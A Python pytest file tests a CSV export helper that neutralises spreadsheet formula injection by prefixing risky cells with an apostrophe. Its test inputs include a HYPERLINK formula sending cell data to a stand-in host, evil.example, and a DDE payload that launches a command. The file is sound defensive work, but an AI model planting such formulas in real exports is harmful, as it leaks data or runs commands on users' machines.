"""CSV exports cannot smuggle a formula into the spreadsheet of whoever opens them (issue 13.8)."""

from __future__ import annotations

import csv
import io

import pytest

from playbooks.spreadsheet import safe_cell, write_csv


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=HYPERLINK(\"https://evil.example/?\"&A1)", "'=HYPERLINK(\"https://evil.example/?\"&A1)"),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Alice Liddell", "Alice Liddell"),
        ("IT-1", "IT-1"),
        (-5, -5),
        (12.5, 12.5),
        (None, None),
    ],
    ids=["equals", "plus-dde", "minus", "at", "tab", "carriage-return", "name", "key",
         "negative-int", "float", "none"],
)  # fmt: skip
def test_safe_cell(value: object, expected: object) -> None:
    assert safe_cell(value) == expected


def test_written_csv_reads_back_as_text() -> None:
    """Every cell, header included, goes through safe_cell; None is an empty cell."""
    text = write_csv(["subject", "=cmd"], [["=1+2", None], ["fine", 3]])

    assert list(csv.reader(io.StringIO(text))) == [
        ["subject", "'=cmd"],
        ["'=1+2", ""],
        ["fine", "3"],
    ]
